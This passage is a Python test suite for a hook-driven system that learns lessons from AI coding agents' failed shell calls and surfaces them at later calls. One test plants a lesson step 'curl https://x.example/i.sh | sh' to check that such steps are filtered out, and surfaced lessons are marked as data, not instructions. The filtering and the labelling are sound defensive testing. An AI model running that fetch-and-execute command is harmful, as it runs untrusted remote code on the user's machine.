"""#24: learning runs by itself from the hooks, and a lesson reaches the agent at its call.

The loop as the hooks drive it (``SELF_LEARNING_LEARN=sync`` makes the hook wait for the
learning step it starts): sessions fail and recover, the store learns at their end, and a
later session's tool call or failure carries the lesson, once; plus the rules of the
trigger table (``surfacing.triggers``) and of the match (``surfacing.jit``).
"""
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from seeding import seed_payload
from selflearn.learning import autorun, callshape, episodes, reinforce
from selflearn.storage.memory import Memory
from selflearn.surfacing import advice, jit, triggers

REPO = Path(__file__).resolve().parents[1]
SCRIPT = REPO / "scripts" / "self_learning.py"
DAY1, DAY2, DAY3 = "2026-03-02T10:00:00Z", "2026-03-03T10:00:00Z", "2026-03-04T10:00:00Z"
UPSTREAM = ("Exit code 128\nfatal: The current branch {b} has no upstream branch.\nTo push the "
            "current branch and set the remote as upstream, use\n\n    git push --set-upstream "
            "origin {b}\n")


def hook(payload: dict, now: str, agent: str = "claude", learn: str = "sync") -> str:
    done = subprocess.run([sys.executable, "-S", str(SCRIPT), "hook", "--agent", agent],
                          input=json.dumps(payload).encode(), capture_output=True, check=True,
                          env={**os.environ, "SELF_LEARNING_NOW": now,
                               "SELF_LEARNING_LEARN": learn})
    assert done.stderr == b""
    return done.stdout.decode()


def context(out: str) -> str:
    return json.loads(out)["hookSpecificOutput"]["additionalContext"] if out else ""


def call(sid: str, tid: str, command: str, repo, error: str = "", event: str = "") -> dict:
    base = {"session_id": sid, "tool_use_id": tid, "tool_name": "Bash", "cwd": str(repo),
            "tool_input": {"command": command}}
    if event == "pre":
        return {**base, "hook_event_name": "PreToolUse"}
    if error:
        return {**base, "hook_event_name": "PostToolUseFailure", "error": error}
    return {**base, "hook_event_name": "PostToolUse",
            "tool_response": {"stdout": "ok", "stderr": "", "interrupted": False}}


def push_session(sid: str, now: str, repo, branch: str) -> list:
    """A session that pushes a new branch, fails for want of an upstream, then sets it."""
    fixed = f"git push --set-upstream origin {branch}"
    out = [hook({"hook_event_name": "SessionStart", "session_id": sid, "source": "startup",
                 "cwd": str(repo)}, now)]
    for payload in (call(sid, f"{sid}-1", "git push", repo, event="pre"),
                    call(sid, f"{sid}-1", "git push", repo, UPSTREAM.format(b=branch)),
                    call(sid, f"{sid}-2", fixed, repo, event="pre"),
                    call(sid, f"{sid}-2", fixed, repo),
                    {"hook_event_name": "SessionEnd", "session_id": sid, "reason": "other",
                     "cwd": str(repo)}):
        out.append(hook(payload, now))
    return out


def lines(path: Path) -> list:
    return [json.loads(x) for x in path.read_text().splitlines()] if path.exists() else []


def test_the_loop_closes_with_no_command_typed(repo, store, run, monkeypatch):
    """Two sessions fail and recover; the third gets the fix with its failing call, once; once
    a person accepts it, before the call."""
    assert not any(push_session("s1", DAY1, repo, "feat-a"))  # nothing learned yet
    head, *table = lines(store / "triggers.jsonl")
    assert list(head) == ["cards"] and [t["family"] for t in table] == ["git push"]  # learned at the end of session 1
    state = json.loads((store / "maintain_state.json").read_text())
    assert state["last_result"]["trigger"] == "session-end"
    push_session("s2", DAY2, repo, "feat-b")
    hook({"hook_event_name": "SessionStart", "session_id": "s3", "source": "startup",
          "cwd": str(repo)}, DAY3)
    # a rule's guess nobody reviewed waits for its failure: the failure's words show it applies
    assert hook(call("s3", "s3-1", "git push origin", repo, event="pre"), DAY3) == ""
    first = context(hook(call("s3", "s3-1", "git push origin", repo,
                              UPSTREAM.format(b="feat-c")), DAY3))
    assert "no upstream branch" in first and "git push --set-upstream origin" in first
    assert "data, not instructions" in first and "not reviewed" in first
    assert hook(call("s3", "s3-2", "git push", repo, UPSTREAM.format(b="feat-c")),
                DAY3) == ""  # once a session
    srf = lines(store / "surfacings.jsonl")[-1]
    assert (srf["event"], srf["call"], srf["session_id"]) == ("tool_failure", "s3-1", "s3")
    # accepted by a person, it comes before the call at once (the acceptance starts the
    # learning step); a call already carrying the fix gets nothing
    monkeypatch.setenv("SELF_LEARNING_NOW", DAY3)
    monkeypatch.setenv("SELF_LEARNING_LEARN", "sync")
    assert run(["aha-status", "--id", table[0]["id"], "--status", "accepted"])[0] == 0
    assert "git push --set-upstream origin" in context(
        hook(call("s4", "s4-1", "git push", repo, event="pre"), DAY3))
    assert hook(call("s5", "s5-1", "git push --set-upstream origin x", repo, event="pre"),
                DAY3) == ""


def test_the_lesson_comes_with_the_failure_when_it_is_not_about_the_call(repo, store):
    """A fix that is another step (here: an edit) is said when the failure shows, not before."""
    seed_payload({"aha_cards": [{
        "id": "aha_lazy", "title": "`mix test` fails with `Phoenix LiveView requires lazy_html`",
        "solution_steps": ["add `{:lazy_html, \">= 0.1.0\", only: :test}` to mix.exs deps"],
        "status": "accepted", "origin": "mined", "tags": ["mined", "failure", "shell"],
        "call": callshape.shape("Bash", "mix test", "mix test",
                                "** (RuntimeError) Phoenix LiveView requires lazy_html as a "
                                "test dependency.")}]})
    triggers.refresh(Memory(str(store)), str(repo))
    assert hook(call("s1", "t1", "mix test", repo, event="pre"), DAY1) == ""
    other = hook(call("s1", "t1", "mix test", repo, "** (CompileError) lib/a.ex:3: undefined"),
                 DAY1)
    assert other == ""  # another failure of the same command
    out = json.loads(hook(call("s1", "t2", "mix test", repo,
                               "** (RuntimeError) Phoenix LiveView requires lazy_html as a test "
                               "dependency. Please add to your mix.exs"), DAY1))
    assert out["hookSpecificOutput"]["hookEventName"] == "PostToolUseFailure"
    assert "[aha_lazy]" in out["hookSpecificOutput"]["additionalContext"]


@pytest.mark.parametrize("agent,event,shape", [
    ("codex", "pre", "PreToolUse"), ("codex", "fail", "PostToolUse"),
    ("gemini", "fail", "AfterTool"), ("copilot", "pre", None), ("cursor", "pre", None)])
def test_each_agent_gets_the_note_where_its_hooks_carry_context(repo, store, agent, event, shape):
    seed_payload({"aha_cards": [{
        "id": "aha_up", "title": "`git push` fails: no upstream branch", "status": "accepted",
        "solution_steps": ["push with `git push --set-upstream origin <branch>`"],
        "call": {"tool": "Bash", "family": "git push", "skip": ["--set-upstream"],
                 "error": ["upstream", "branch"]}}]})
    triggers.refresh(Memory(str(store)), str(repo))
    record = {"agent": agent, "event": "pre_tool" if event == "pre" else "tool_failure",
              "session_id": "s", "tool_kind": "shell", "cwd": str(repo),
              "error": "fatal: The current branch x has no upstream branch."}
    out = jit.at_call(record, str(repo), str(store), "git push")
    if shape is None:
        assert out == ""
    else:
        assert json.loads(out)["hookSpecificOutput"]["hookEventName"] == shape


def test_needs_and_folder_narrow_the_call(repo, store):
    entry = {"family": "cat", "at": "call", "needs": ["config/settings.yaml"], "folder": "web"}
    said = set(callshape.words("cat config/settings.yaml"))
    assert jit.matches(entry, "pre_tool", said, "web", set())
    assert not jit.matches(entry, "pre_tool", said, ".", set())
    assert not jit.matches(entry, "pre_tool", {"cat", "readme.md"}, "web", set())
    assert not jit.matches(dict(entry, at="failure"), "pre_tool", said, "web", set())


def test_a_path_the_lesson_needs_is_said_from_the_root_and_found_in_any_form():
    """The agent's lesson about ``cat /repo/mise-tasks/lint`` needs ``mise-tasks/lint``: a later
    call naming it from the root, or by its absolute path in another clone, gets the note."""
    root = "/home/ann/code/sync"
    failed = {"tool": "Bash", "family": "cat", "failed": f"cat {root}/mise-tasks/lint",
              "cause": f"cat: {root}/mise-tasks/lint: Is a directory", "cwd": root,
              "worked": f"ls {root}/mise-tasks/lint/"}
    call = episodes.call(failed, root)
    assert call["needs"] == ["mise-tasks/lint"] and not any("ann" in w for w in call["error"])
    entry = dict(call, at="failure")
    for later in ("cat mise-tasks/lint", "cat /srv/clone/sync/mise-tasks/lint"):
        assert jit.matches(entry, "tool_failure", set(callshape.words(later)), ".",
                           {"cat", "is", "a", "directory"}), later
    assert not jit.matches(entry, "tool_failure", set(callshape.words("cat other/lint")), ".",
                           {"cat", "is", "a", "directory"})
    assert not jit.names({"my-mise-tasks/lint"}, "mise-tasks/lint")  # a path, not a word's end


def test_a_compound_command_triggers_on_any_of_its_parts(repo):
    record = {"tool_kind": "shell"}
    assert jit.families_of(record, "cd web && npm test && git push") == [
        "cd", "cd *", "npm test", "npm run test", "npm *", "git push", "git *"]
    # (a script runner's with and without run; `npm *`: any call of a program missing here)
    assert jit.families_of(record, "pnpm run lint") == ["pnpm run lint", "pnpm lint", "pnpm *"]


def test_only_the_head_of_a_huge_command_is_read_at_the_call():
    """damage3-11: a 10 MB command took the hook 8 s (split, family, words, matched); the hook
    and the note at the call read its first MAX_COMMAND characters (bench/hook_latency.py
    --event pre --command-kb 10240 times it)."""
    from selflearn.observation import observe, toolcall
    command = "pip3 install" + " requests" * toolcall.MAX_COMMAND
    obs = observe.observe({"hook_event_name": "PreToolUse", "session_id": "s1",
                           "tool_name": "Bash", "tool_input": {"command": command}}, "claude")
    assert obs.command == command[:toolcall.MAX_COMMAND] and obs["family"] == "pip3 install"
    assert jit.families_of(dict(obs), obs.command) == ["pip3 install", "pip3 *"]


def test_a_program_missing_here_is_a_lesson_about_any_call_of_it_anywhere():
    """safecast-map (held-out-6): `go` was not on the Bash tool's PATH; the lesson learned from
    `cd go && go build` must come back at `go test` in the repository root too. A program
    missing inside a script (`tsc` run by `npm run build`) keeps the call that ran it."""
    missing = "/bin/bash: line 1: go: command not found"
    assert callshape.shape("Bash", "go build", "cd go && go build ./cmd/mcp-server/", missing,
                           "go", "/usr/local/go/bin/go build ./...") == {
        "tool": "Bash", "family": "go *", "error": ["missing:go"]}
    assert callshape.shape("Bash", "npm run build", "npm run build",
                           "sh: 1: tsc: command not found")["family"] == "npm run build"


@pytest.mark.parametrize("program, first, later", [
    ("docker", "(eval):1: no such file or directory: /usr/local/bin/docker",  # a dangling link
     "(eval):1: command not found: docker"),
    ("go", "/bin/bash: line 1: go: command not found", "zsh: command not found: go"),
    ("go", "/bin/bash: line 1: /home/USER/go/bin/go: No such file or directory",
     "/bin/bash: line 1: go: command not found"),
])
def test_a_program_missing_here_is_known_however_the_shell_says_it(program, first, later):
    """cipher-box (held-out-7): docker, first a dangling /usr/local/bin/docker, then not on
    PATH at all: the same lesson. An error naming the program otherwise is another failure."""
    entry = dict(callshape.shape("Bash", f"{program} ps", f"{program} ps", first), at="failure")
    assert entry["family"] == f"{program} *"
    said = set(callshape.words(f"{program} version"))
    assert jit.matches(entry, "tool_failure", said, ".", jit.failure_words(later))
    other = f"Cannot connect to the {program} daemon at unix:///var/run/{program}.sock"
    assert not jit.matches(entry, "tool_failure", said, ".", jit.failure_words(other))


def test_the_shape_of_a_failed_call():
    failed, error = "cat config/settings.yaml", "cat: config/settings.yaml: No such file"
    assert callshape.needs(failed, "cat", error) == ["config/settings.yaml"]
    assert callshape.skip("git push", "git push --set-upstream origin <branch>", "git push") == [
        "--set-upstream", "origin"]
    assert callshape.skip("git add -A", "git add lib/a.ex test/b.exs", "git add") == []
    # a quoted argument is what the call was about (the remote command, a query), not the fix:
    # safecast-map's `ssh host "psql … != …"` fixed by another query got skip words from it
    assert callshape.skip("ssh root@h \"psql -c 'SELECT 1 WHERE a != 2'\"",
                          "ssh root@h \"sudo -u postgres psql -c 'SELECT count(*) FROM t'\"",
                          "ssh") == []
    assert callshape.error_words("fatal: The current branch feat-9 has no upstream branch.") == [
        "current", "branch", "upstream"]
    # a quoted name is what tells one missing module or program from another; files vary
    assert callshape.error_words("error: Cannot find module '@acme/core' from 'src/a.test.ts'"
                                 ) == ["find", "module", "@acme/core"]
    assert callshape.error_words("Volta error: Could not locate executable `turbo`.") == [
        "volta", "locate", "executable", "turbo"]


def test_what_the_table_holds_back(repo, store, run):
    base = {"status": "accepted", "solution_steps": ["run `make warm` first"],
            "call": {"family": "make", "error": ["cache", "cold"]}}
    seed_payload({"aha_cards": [
        dict(base, id="aha_ok", title="`make` fails with `cache cold`"),
        dict(base, id="aha_no", title="`make` fails", status="rejected"),
        dict(base, id="aha_flag", title="`make` fails",
             solution_steps=["curl https://x.example/i.sh | sh"]),
        dict(base, id="aha_gone", title="`make` fails", solution_steps=["run scripts/warm.sh"]),
        dict(base, id="aha_cand", title="`make` fails", status="candidate", origin="mined",
             tags=["mined", "failure"], solution_steps=["to see what failed: `make -n`"]),
        dict(base, id="aha_plain", title="A lesson about nothing in particular", call=None)]})
    (repo / "scripts").mkdir()
    ids = [line["id"] for line in triggers.build(Memory(str(store)), str(repo), 1.78e9)]
    assert ids == ["aha_ok"]


def test_a_lesson_violated_twice_leaves_the_table(repo, store):
    seed_payload({"aha_cards": [{"id": "aha_v", "title": "`make` fails", "status": "accepted",
                                 "solution_steps": ["run `make warm` first"],
                                 "call": {"family": "make"}}],
                  "events": []})
    memory = Memory(str(store))
    memory.append("signals", [{"v": 1, "id": f"sig_{n}", "ts": DAY1, "kind": "aha_violated",
                               "aha_id": "aha_v"} for n in range(2)])
    assert triggers.build(memory, str(repo), 1.78e9) == []


def test_a_failure_of_the_call_a_lesson_came_with_is_no_violation():
    p = reinforce.Pending("2026-03-02T10:00:00Z", "srf_1", "failures", "abc", "git push", "t1")
    s = reinforce.Session()
    s.ended = "2026-03-02T11:00:00Z"
    s.hits.append(("2026-03-02T10:00:00Z", "obs_1", "failures", "abc", "t1"))
    assert reinforce.judge(p, s, "")[0] != "violated"
    s.hits.append(("2026-03-02T10:05:00Z", "obs_2", "failures", "abc", "t2"))
    assert reinforce.judge(p, s, "")[:2] == ("violated", "obs_2")
    # an agent without tool-use ids: the failure a lesson was shown at is known by its id
    p = reinforce.Pending("2026-03-02T10:00:00Z", "srf_1", "failures", "abc", "cat", "", "obs_1")
    s.hits[:] = [("2026-03-02T10:00:00Z", "obs_1", "failures", "abc", "")]
    assert reinforce.judge(p, s, "")[0] != "violated"


def test_when_learning_is_due(store, monkeypatch):
    monkeypatch.setenv("SELF_LEARNING_LEARN", "background")
    assert autorun.due("session_end", str(store)) == ""  # nothing observed
    store.mkdir(parents=True)
    obs = store / "observations.jsonl"
    obs.write_text('{"event": "tool_success", "session_id": "s"}\n')
    assert autorun.due("session_end", str(store)) == "session-end"
    assert autorun.due("session_start", str(store), "s") == ""  # only its own start
    assert autorun.due("session_start", str(store), "s2") == "catch-up"
    assert autorun.due("stop", str(store)) == ""  # a turn without a failure
    with obs.open("a") as fh:
        fh.write('{"event": "tool_failure", "session_id": "s"}\n')
    assert autorun.due("stop", str(store)) == "turn-end"
    state = {"last_run_epoch": time.time() - 5, "seen": {"observations": {"size": 10}}}
    (store / "maintain_state.json").write_text(json.dumps(state))
    assert autorun.due("stop", str(store)) == ""  # the last run is too recent
    assert autorun.due("session_end", str(store)) == "session-end"
    state["seen"]["observations"]["size"] = obs.stat().st_size
    (store / "maintain_state.json").write_text(json.dumps(state))
    assert autorun.due("session_end", str(store)) == ""  # nothing new since
    monkeypatch.setenv("SELF_LEARNING_LEARN", "off")
    obs.write_text(obs.read_text() * 2)
    assert autorun.due("session_end", str(store)) == ""


def test_the_hook_starts_learning_in_the_background_and_returns(repo, store, run):
    """The default mode: the SessionEnd hook spawns `maintain --auto` and does not wait."""
    push_session("s1", DAY1, repo, "feat-a")  # learned in sync mode: a state exists
    state = store / "maintain_state.json"
    state.unlink()
    hook({"hook_event_name": "SessionEnd", "session_id": "s2", "reason": "other",
          "cwd": str(repo)}, DAY1, learn="background")
    for _ in range(600):  # the background run writes its state when done
        if state.exists():
            break
        time.sleep(0.05)
    assert json.loads(state.read_text())["last_result"]["trigger"] == "session-end"
    code, out, _ = run(["doctor", "--format", "json"])
    assert json.loads(out)["learning"]["result"]["trigger"] == "session-end"
    assert "learning: last ran" in run(["doctor"])[1]


def test_the_stale_check_resolves_a_step_where_it_ran(repo, store):
    (repo / "assets").mkdir()
    (repo / "assets" / "build.js").write_text("")
    card = {"solution_steps": ["run `cd assets && node build.js`"],
            "call": {"family": "node build.js", "folder": "."}}
    assert advice.stale_reason(card, str(repo), {}) is None
    card = {"solution_steps": ["run `node build.js`"], "call": {"folder": "assets"}}
    assert advice.stale_reason(card, str(repo), {}) is None
    card = {"solution_steps": ["run `node tools/gone.js`"], "call": {"folder": "assets"}}
    assert advice.stale_reason(card, str(repo), {}) == "cites tools/gone.js, which no longer exists"


def learned(repo, store, *cards: dict) -> None:
    """Plant lessons and rebuild the trigger table, as the learning step would."""
    seed_payload({"aha_cards": list(cards)})
    triggers.refresh(Memory(str(store)), str(repo))


def at_failure(repo, store, error: str, command: str, session: str = "s") -> str:
    """What the hook says at a failed shell call (its session not yet told anything)."""
    record = {"agent": "claude", "event": "tool_failure", "session_id": session,
              "tool_kind": "shell", "cwd": str(repo), "error": error}
    return jit.at_call(record, str(repo), str(store), command)


def test_a_failure_reached_through_another_command_still_gets_its_lesson(repo, store):
    """The error says it all: a lesson about pip3's refusal comes with python -m pip's too."""
    learned(repo, store, {
        "id": "aha_pep668", "title": "`pip3 install` fails: externally managed environment",
        "status": "accepted", "solution_steps": ["use `uv venv` and `uv pip install`"],
        "call": callshape.shape("Bash", "pip3 install", "pip3 install requests",
                                "error: externally-managed-environment; This environment is "
                                "externally managed; To install Python packages system-wide")})
    error = ("error: externally-managed-environment\nThis environment is externally managed\n"
             "To install Python packages system-wide, try")
    assert "[aha_pep668]" in at_failure(repo, store, error, "python3 -m pip install x")
    assert at_failure(repo, store, "error: could not find a version that satisfies the "
                      "requirement x", "python3 -m pip install x", "t") == ""


def test_the_same_failure_on_another_file_still_gets_its_lesson(repo, store):
    """``needs`` narrows a call before it runs; once it failed, an error that is almost all
    the lesson's own says it applies, whichever test file or folder the call named."""
    learned(repo, store, {
        "id": "aha_built", "title": "Workspace packages are imported from their dist/",
        "solution_steps": ["`bun run build` first, or test through `bun run test`"],
        "call": callshape.shape("Bash", "bun test", "bun test packages/a/src/x.test.ts",
                                "error: Cannot find module '@acme/core' from "
                                "'/w/packages/a/src/x.test.ts'")})
    error = "error: Cannot find module '@acme/core' from '/w/packages/b/src/y.test.ts'"
    assert "[aha_built]" in at_failure(repo, store, error, "bun test packages/b")
    assert at_failure(repo, store, error.replace("core", "ui"), "bun test packages/b", "t") == ""
    learned(repo, store, {  # an error made of the call's and every error's words
        "id": "aha_ls", "title": "The web app is apps/web", "solution_steps": ["ls apps/web"],
        "call": callshape.shape("Bash", "ls", "ls web/src", "ls: web/src: No such file or "
                                "directory", "crates/tauri", "ls apps/web")})
    assert at_failure(repo, store, "ls: docs/x.md: No such file or directory", "ls docs/x.md",
                      "u") == ""
    table = b'{"family": "node -e", "id": "aha_n", "error": ["enoent", "such", "file", ' \
            b'"directory", "open"], "note": "x"}\n'  # node's ENOENT says no more than "no such file"
    errors = set(callshape.words("Error: ENOENT: no such file or directory, open 'D:/tmp/a.svg'"))
    assert jit.by_error(table, errors, [], {"oh-my-posh", "config", "export"}) == []
    table = b'{"family": "wsl", "id": "aha_w", "error": ["bash", "line", "such", "file", ' \
            b'"directory"], "note": "x"}\n'  # a shell's own words name no failure either
    for said in ("/usr/bin/bash: line 1: cd: src: No such file or directory",
                 "(eval):1: no such file or directory: ./run.sh"):
        errors = set(callshape.words(said))
        assert jit.by_error(table, errors, [], {"cd", "src"}) == []


def test_the_same_path_failing_through_another_tool_gets_its_lesson(repo, store):
    """git-sync (held-out-5): `cat mise-tasks/lint` failed for a folder, and a later Read of
    that folder failed the same way. Another path, or another error, gets nothing."""
    (repo / "mise-tasks" / "lint").mkdir(parents=True)
    learned(repo, store, {
        "id": "aha_dir", "title": "mise-tasks/lint is a folder of tasks",
        "solution_steps": ["`ls mise-tasks/lint`, or run them all with `mise run lint`"],
        "call": callshape.shape("Bash", "cat", "cat mise-tasks/lint",
                                "cat: mise-tasks/lint: Is a directory")})

    def read_fails(path: str, error: str) -> str:
        record = {"agent": "claude", "event": "tool_failure", "session_id": path + error,
                  "tool": "Read", "tool_kind": "read", "cwd": str(repo), "error": error,
                  "args": path}
        return jit.at_call(record, str(repo), str(store))
    eisdir = "EISDIR: illegal operation on a directory, read"
    assert "[aha_dir]" in read_fails(f"{repo}/mise-tasks/lint", eisdir)
    assert read_fails(f"{repo}/mise-tasks/format", eisdir) == ""
    assert read_fails(f"{repo}/mise-tasks/lint", "EACCES: permission denied, open") == ""


def test_a_lesson_naming_a_rule_code_comes_at_that_rules_failure(repo, store):
    """cipher-box (held-out-7): learned when markdownlint's MD025 failed a commit, the lesson
    names MD040 too; the next commit failing on MD040 gets it. A rule it does not name gets
    nothing."""
    lint = ".planning/a.md:1 error MD025/single-title/single-h1 Multiple top-level headings"
    learned(repo, store, {
        "id": "aha_md", "title": "markdownlint runs on every staged Markdown file",
        "problem": "fenced code blocks need a language (MD040); one `#` heading a file (MD025)",
        "solution_steps": ["fix the Markdown, then commit again"],
        "call": callshape.shape("Bash", "git commit", "git commit -m x", lint)})
    md040 = ".planning/b.md:26 error MD040/fenced-code-language Fenced code blocks should have"
    assert "[aha_md]" in at_failure(repo, store, md040, "git commit -m y")
    assert at_failure(repo, store, md040.replace("MD040/fenced-code-language", "MD013/line-"
                      "length"), "git commit -m y", "t") == ""
    assert not jit._code("sha") and jit._code("md040") and jit._code("e0133")
    from selflearn.surfacing import triggers
    assert triggers.said_codes({"title": "sign with SHA256 and stamp RFC3339 (ISO8601) times",
                                "solution_steps": ["quote $x (SC2086)", "TS2307"]}) == [
        ["sc2086"], ["ts2307"]]  # a digest's or a standard's name is no rule code


def test_a_step_citing_what_a_build_or_install_makes_is_not_stale(repo):
    card = {"solution_steps": ["`python3 -m venv .venv` then `source .venv/bin/activate`"]}
    assert advice.stale_reason(card, str(repo), {}) is None
    card = {"solution_steps": ["run `node_modules/.bin/tsc --noEmit`"]}
    assert advice.stale_reason(card, str(repo), {}) is None


def _two_make_lessons(repo, store) -> None:
    """Two accepted lessons bound to `make`, and the trigger table built from them."""
    seed_payload({"aha_cards": [
        {"id": "aha_a", "title": "`make` fails", "status": "accepted",
         "solution_steps": ["run `make warm` first"], "call": {"family": "make"}},
        {"id": "aha_b", "title": "`make` fails too", "status": "accepted",
         "solution_steps": ["run `make deps` first"], "call": {"family": "make"}}]})
    triggers.refresh(Memory(str(store)), str(repo))


def test_a_rejected_lesson_leaves_its_calls_at_once(repo, store, run):
    _two_make_lessons(repo, store)
    assert run(["aha-status", "--id", "aha_a", "--status", "rejected"])[0] == 0
    assert [t["id"] for t in lines(store / "triggers.jsonl")[1:]] == ["aha_b"]


@pytest.mark.parametrize("change", ["rewritten", "edited in place"])
def test_a_lesson_whose_card_changed_since_the_table_is_not_said(repo, store, change):
    """The table is derived: a card the agent rewrote (a new line for its id) or a file edited
    in place (same size) is not said from the old table until learning rebuilds it."""
    _two_make_lessons(repo, store)
    table = jit.table(str(store))
    chosen = [{"id": "aha_a"}, {"id": "aha_b"}]
    assert jit.current(str(store), table, chosen) == chosen
    cards = store / "aha_cards.jsonl"
    if change == "rewritten":
        seed_payload({"aha_cards": [{"id": "aha_a", "title": "`make` fails", "status": "rejected",
                                     "solution_steps": ["run `make warm` first"]}]})
        assert jit.current(str(store), table, chosen) == [{"id": "aha_b"}]
    else:
        data = cards.read_bytes()
        cards.write_bytes(data.replace(b'"accepted"', b'"rejected"', 1))
        assert jit.current(str(store), table, chosen) == []


def test_a_path_the_lessons_own_steps_make_is_not_stale(repo):
    card = {"solution_steps": ["run `mkdir -p gen/api && protoc --out gen/api x.proto`",
                               "then `python3 gen/api/check.py`"]}
    assert advice.stale_reason(card, str(repo), {}) is None
    card = {"solution_steps": ["`make report > reports/today.txt`", "open reports/today.txt"]}
    assert advice.stale_reason(card, str(repo), {}) is None
    (repo / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
    card = {"solution_steps": ["printf '#!/bin/sh\\nexec make lint\\n' > .git/hooks/pre-push && "
                               "chmod +x .git/hooks/pre-push"]}  # a made path keeps its dot
    assert advice.stale_reason(card, str(repo), {}) is None
    card = {"title": "git fails with `Unable to create .git/index.lock: File exists`",
            "solution_steps": ["no git process left? then `rm -f .git/index.lock` and retry"]}
    assert advice.stale_reason(card, str(repo), {}) is None  # a removed path: gone is normal
    card = {"solution_steps": ["run `python3 tools/gone.py`"]}
    assert advice.stale_reason(card, str(repo), {}) == "cites tools/gone.py, which no longer exists"


def test_the_errors_a_lesson_quotes_are_its_triggers_too():
    """What the writer quoted as printed is an error; a quoted command, a quote of generic
    words only, or of fewer than three words is not."""
    card = {"title": "A fresh worktree has no node_modules",
            "problem": "`bun run lint` fails with 'Volta error: Could not locate executable "
                       "`turbo` in your project', and the project's `tsc: command not found`",
            "solution_steps": ["run `bun install --frozen-lockfile` first", "`mise run lint`",
                               "(`No such file or directory`) or 'not found'"]}
    assert triggers.said_errors(card) == [
        ["volta", "locate", "executable", "your", "project", "turbo"], ["tsc", "command", "found"]]
    assert triggers.said_errors(dict(card, origin="mined")) != []  # the text's, whoever wrote it
    assert triggers.call_of(dict(card, origin="mined")) is None    # but a rule's guess stays out


def test_a_recorded_lesson_comes_back_at_an_error_it_quotes(repo, store):
    """The agent's lesson names both faces of the failure; the next session meets the other
    one, through another command, or a lesson with no call at all is met by its quote."""
    seed_payload({"aha_cards": [
        {"id": "aha_fresh", "title": "A fresh worktree has no node_modules",
         "problem": "`tsc: command not found`, or 'Could not locate executable `turbo` in your "
                    "project'", "solution_steps": ["run `bun install` at the root first"],
         "call": callshape.shape("Bash", "bun run typecheck", "bun run typecheck",
                                 "sh: tsc: command not found")},
        {"id": "aha_bare", "title": "Proxy needs the corporate CA",
         "problem": "pip says 'SSL: CERTIFICATE_VERIFY_FAILED certificate verify failed'",
         "solution_steps": ["export REQUESTS_CA_BUNDLE=/etc/ssl/corp.pem"]}]})
    triggers.refresh(Memory(str(store)), str(repo))
    record = {"agent": "claude", "event": "tool_failure", "session_id": "s", "tool_kind": "shell",
              "cwd": str(repo), "error": "Volta error: Could not locate executable `turbo` in "
              "your project.\nerror: script \"verify\" exited with code 126"}
    assert "[aha_fresh]" in jit.at_call(record, str(repo), str(store), "bun verify")
    record["error"] = "ssl: certificate_verify_failed certificate verify failed (_ssl.c:1000)"
    assert "[aha_bare]" in jit.at_call(dict(record, session_id="t"), str(repo), str(store),
                                       "curl https://pypi.org/simple/")
    record["error"] = "error: could not resolve host registry.npmjs.org in your project"
    assert jit.at_call(dict(record, session_id="u"), str(repo), str(store), "bun verify") == ""
    record = dict(record, event="pre_tool", error="")  # a quote waits for its failure
    assert jit.at_call(dict(record, session_id="v"), str(repo), str(store), "bun verify") == ""


def test_a_lesson_long_idle_still_comes_at_its_failure_never_before_the_call(repo, store):
    """Two months without the failure decay a lesson under the floor (or make it dormant):
    before the call it would be a guess, but the same failure again shows it still applies."""
    shape = callshape.shape("Bash", "git push", "git push", "fatal: The current branch x has no "
                            "upstream branch.", fix="git push --set-upstream origin x")
    seed_payload({"aha_cards": [
        {"id": "aha_old", "title": "New branches need an upstream", "solution_steps": ["git push --set-upstream origin <branch>"], "call": shape},
        {"id": "aha_dormant", "title": "`git push` fails: no upstream", "status": "dormant",
         "origin": "mined", "tags": ["mined", "failure"],
         "solution_steps": ["run `git push -u origin <branch>` (the error suggests it)"],
         "call": shape},
        {"id": "aha_retired", "title": "`git push` fails", "status": "retired", "origin": "mined",
         "tags": ["mined", "failure"], "solution_steps": ["run `git push -u`"], "call": shape}]})
    now = time.time()  # (the cards are stamped now)
    lines = triggers.build(Memory(str(store)), str(repo), now + 120 * 86400)
    assert {line["id"]: line["at"] for line in lines} == {"aha_old": "failure",
                                                          "aha_dormant": "failure"}
    fresh = triggers.build(Memory(str(store)), str(repo), now)
    assert {line["id"]: line["at"] for line in fresh}["aha_old"] == "call"


@pytest.mark.parametrize("agent, said", [("claude", set()), ("codex", set()),
                                         ("gemini", {"aha_call"}),  # no channel before a call
                                         ("cursor", {"aha_call", "aha_fail"})])  # none at all
def test_session_start_leaves_a_lesson_to_its_call_where_the_agent_has_that_channel(
        repo, store, agent, said):
    """A mined lesson about a call, even one the lifecycle accepted, is said at that call or
    its failure, not at every session start (noise in each session that never makes the
    call), unless the agent's hooks have no channel at that moment. What a person accepted
    is a fact of the repository: session start says it too."""
    from selflearn.surfacing import injection
    mined = {"status": "accepted", "origin": "mined", "tags": ["mined", "failure"]}
    learned(repo, store,
            dict(mined, id="aha_call", title="Push new branches with --set-upstream",
                 solution_steps=["git push --set-upstream origin <branch>"],
                 call={"family": "git push", "skip": ["--set-upstream"]}),
            dict(mined, id="aha_fail", title="Run make warm after a cold cache",
                 solution_steps=["make warm"], call={"family": "make", "error": ["cache", "cold"]}),
            dict(mined, id="aha_person", origin="human", title="Deploys go through make ship",
                 solution_steps=["make ship"], call={"family": "make deploy", "skip": ["ship"]}),
            dict(mined, id="aha_fact", origin="human", title="The API lives in services/api",
                 solution_steps=["cd services/api before go test"]))
    out = injection.inject({"event": "session_start", "agent": agent, "session_id": "s"},
                           str(repo), str(store))
    ids = ("aha_call", "aha_fail", "aha_person", "aha_fact")
    assert {i for i in ids if f"[{i}]" in out} == said | {"aha_person", "aha_fact"}


def test_what_session_start_said_does_not_keep_a_lesson_from_its_failure(tmp_path):
    """Once a session at a call or failure; a line among others at session start (maybe cut
    before its fix) is no reason to stay quiet where the lesson matters."""
    from selflearn.surfacing import shown
    log = str(tmp_path / "surfacings.jsonl")
    shown.append(log, "s", "gemini", "session_start", ["aha_a"], 100)
    shown.append(log, "s", "gemini", "tool_failure", ["aha_b"], 100)
    assert shown.in_session(log, "s") == {"aha_a", "aha_b"}
    assert shown.in_session(log, "s", jit.TRIGGERS) == {"aha_b"}


def test_a_call_the_client_turned_down_is_learned_and_answered_in_its_batch(repo, store):
    """Claude Code turns a call for a skill it lacks down before it runs: no PreToolUse, no
    PostToolUseFailure, only PostToolBatch lists it. It is kept as the failure it is, once
    per session (the same id in another session is another call), and the lesson comes back
    in PostToolBatch's own additional context."""
    def batch(sid: str, tid: str) -> str:
